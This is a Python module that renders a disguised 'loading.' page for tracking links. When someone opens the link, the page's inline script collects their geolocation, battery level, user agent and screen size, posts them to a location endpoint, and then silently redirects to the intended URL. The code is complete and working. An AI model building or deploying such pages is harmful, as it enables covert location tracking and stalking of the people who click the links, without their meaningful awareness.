"""Landing page served for GET /track/{id}.

The page collects battery level and geolocation where the browser allows
it, reports them to the location endpoint, then navigates to the target
URL whether or not the report went through.
"""

import json
from string import Template

LANDING_TEMPLATE = Template("""<!DOCTYPE html>
<html lang="en">
<head>
    <meta charset="UTF-8">
    <meta name="viewport" content="width=device-width, initial-scale=1.0">
    <title>loading.</title>
</head>
<body>
    <script>
    (function () {
        var pageID = $page_id;
        var targetUrl = $target_url;
        var locationUrl = $location_url;

        function redirect() {
            window.location.href = targetUrl;
        }

        function sendDeviceInfo(battery, latitude, longitude) {
            var deviceInfo = {
                userAgent: navigator.userAgent,
                screenWidth: window.screen.width,
                screenHeight: window.screen.height,
                batteryLevel: battery ? Math.round(battery.level * 100) : null,
                latitude: latitude,
                longitude: longitude,
                timestamp: new Date().toISOString()
            };
            fetch(locationUrl, {
                method: 'POST',
                headers: {'Content-Type': 'application/json'},
                body: JSON.stringify({pageID: pageID, deviceInfo: deviceInfo})
            }).then(redirect, redirect);
        }

        function locate(battery) {
            if (!navigator.geolocation) {
                sendDeviceInfo(battery, null, null);
                return;
            }
            navigator.geolocation.getCurrentPosition(
                function (position) {
                    sendDeviceInfo(battery, position.coords.latitude, position.coords.longitude);
                },
                function () {
                    sendDeviceInfo(battery, null, null);
                }
            );
        }

        if (navigator.getBattery) {
            navigator.getBattery().then(locate, function () { locate(null); });
        } else {
            locate(null);
        }
    })();
    </script>
</body>
</html>
""")


def _script_literal(value: str) -> str:
    """JSON-encode a string so it is inert inside an inline <script>."""
    return (
        json.dumps(value)
        .replace("<", "\\u003c")
        .replace(">", "\\u003e")
        .replace("&", "\\u0026")
    )


def render_landing_page(page_id: str, target_url: str, location_url: str = "/location") -> str:
    return LANDING_TEMPLATE.substitute(
        page_id=_script_literal(page_id),
        target_url=_script_literal(target_url),
        location_url=_script_literal(location_url),
    )
